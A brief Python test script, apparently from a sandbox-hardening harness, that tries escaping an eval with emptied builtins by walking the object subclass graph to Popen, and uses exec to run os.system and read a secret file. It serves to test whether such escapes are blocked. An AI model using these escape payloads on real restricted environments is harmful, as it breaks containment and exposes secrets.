"""eval/exec with emptied __builtins__ reaching Popen through the type graph
(row 32), the unguarded escape hatch granted."""
from rtlib import CTX, done, try_

src = ("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]"
       f"([{CTX['marker_prog']!r}, {CTX['marker']!r}]).wait()")
import subprocess  # noqa: E402,F401 - makes Popen reachable
try_("eval", eval, src, {"__builtins__": {}})
try_("exec", exec, "import os; os.system(" + repr(CTX["marker_prog"] + " " + CTX["marker"]) + ")", {})
try_("exec read", exec, f"print(open({CTX['secret']!r}).read())", {})
done()
